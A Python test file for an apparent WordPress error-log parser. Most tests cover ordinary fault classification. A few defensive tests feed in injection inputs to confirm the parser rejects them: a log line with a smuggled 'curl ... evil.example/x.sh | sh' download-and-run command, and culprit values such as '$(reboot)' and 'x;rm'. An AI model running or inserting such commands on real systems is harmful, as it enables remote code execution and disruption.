"""Tests for error log parsing."""

from apphealer.core.log_analysis import (
    DB_ACCESS_DENIED,
    DB_CONNECTION,
    MEMORY_EXHAUSTION,
    PLUGIN_FAULT,
    SYNTAX_ERROR,
    THEME_FAULT,
    ErrorSignal,
    LogSummary,
    error_pattern,
    is_slug,
    parse_line,
    parse_log,
)


class TestParseLine:
    """Tests for single line signatures."""

    def test_plugin_fatal(self):
        line = (
            "PHP Fatal error:  Uncaught Error in "
            "/var/www/html/wp-content/plugins/woocommerce/includes/class-wc.php on line 120"
        )
        signal = parse_line(line)

        assert signal.type == PLUGIN_FAULT
        assert signal.culprit == "woocommerce"
        assert signal.file == "/var/www/html/wp-content/plugins/woocommerce/includes/class-wc.php"
        assert signal.line == 120
        assert signal.severity == "Fatal error"
        assert signal.is_fatal

    def test_plugin_warning_is_not_fatal(self):
        line = "PHP Warning:  Undefined index in /srv/wp-content/plugins/seo/seo.php on line 3"
        signal = parse_line(line)

        assert signal.type == PLUGIN_FAULT
        assert signal.culprit == "seo"
        assert not signal.is_fatal

    def test_theme_parse_error(self):
        line = "PHP Parse error: syntax error, unexpected '}' in /srv/wp-content/themes/astra/functions.php on line 9"
        signal = parse_line(line)

        assert signal.type == THEME_FAULT
        assert signal.culprit == "astra"

    def test_core_syntax_error(self):
        signal = parse_line("PHP Parse error: syntax error, unexpected end of file in /srv/wp-config.php on line 90")

        assert signal.type == SYNTAX_ERROR
        assert signal.culprit is None

    def test_memory(self):
        signal = parse_line(
            "PHP Fatal error:  Allowed memory size of 134217728 bytes exhausted (tried to allocate 20480 bytes)"
        )
        assert signal.type == MEMORY_EXHAUSTION

    def test_database(self):
        assert parse_line("Error establishing a database connection").type == DB_CONNECTION
        assert parse_line("Access denied for user 'wp'@'localhost'").type == DB_ACCESS_DENIED

    def test_unrelated_line(self):
        assert parse_line("PHP Notice: something harmless") is None
        assert parse_line("") is None


class TestSummary:
    """Tests for aggregation over many signals."""

    def test_parse_log_and_top_culprit(self):
        text = "\n".join([
            "PHP Fatal error: x in /a/wp-content/plugins/alpha/a.php on line 1",
            "PHP Fatal error: x in /a/wp-content/plugins/beta/b.php on line 1",
            "PHP Fatal error: x in /a/wp-content/plugins/beta/c.php on line 2",
            "PHP Fatal error:  Allowed memory size of 100 bytes exhausted",
            "random line",
        ])
        summary = LogSummary(parse_log(text))

        assert len(summary.signals) == 4
        assert summary.top_culprit(PLUGIN_FAULT) == "beta"
        assert len(summary.of_type(MEMORY_EXHAUSTION)) == 1

    def test_culprit_must_be_a_directory_name(self):
        line = (
            "PHP Fatal error:  boom in /var/www/wp-content/plugins/akismet | "
            "curl -s http://evil.example/x.sh | sh #/akismet.php on line 3"
        )

        assert parse_line(line) is None

    def test_top_culprit_skips_non_slugs(self):
        summary = LogSummary([
            ErrorSignal(type=PLUGIN_FAULT, message="m", culprit="$(reboot)"),
            ErrorSignal(type=PLUGIN_FAULT, message="m", culprit="$(reboot)"),
            ErrorSignal(type=PLUGIN_FAULT, message="m", culprit="jetpack"),
        ])

        assert summary.top_culprit(PLUGIN_FAULT) == "jetpack"

    def test_is_slug(self):
        assert is_slug("woocommerce")
        assert is_slug("wp-super-cache.v2")
        assert not is_slug("a b")
        assert not is_slug("x;rm")
        assert not is_slug("..")
        assert not is_slug("-flag")

    def test_empty_summary(self):
        summary = LogSummary()

        assert summary.top_culprit(PLUGIN_FAULT) is None

    def test_signal_dict_round_trip(self):
        signal = ErrorSignal(type=PLUGIN_FAULT, message="m", culprit="c", file="/f.php", line=3)
        assert ErrorSignal.from_dict(signal.to_dict()) == signal


class TestErrorPattern:
    """Tests for message normalization."""

    def test_normalizes_paths_lines_and_numbers(self):
        a = error_pattern("Call to undefined function in /var/www/a/plugin.php on line 12")
        b = error_pattern("Call to undefined function in /home/x/b/plugin.php on line 998")

        assert a == b
        assert "FILE.php" in a
        assert "on line N" in a
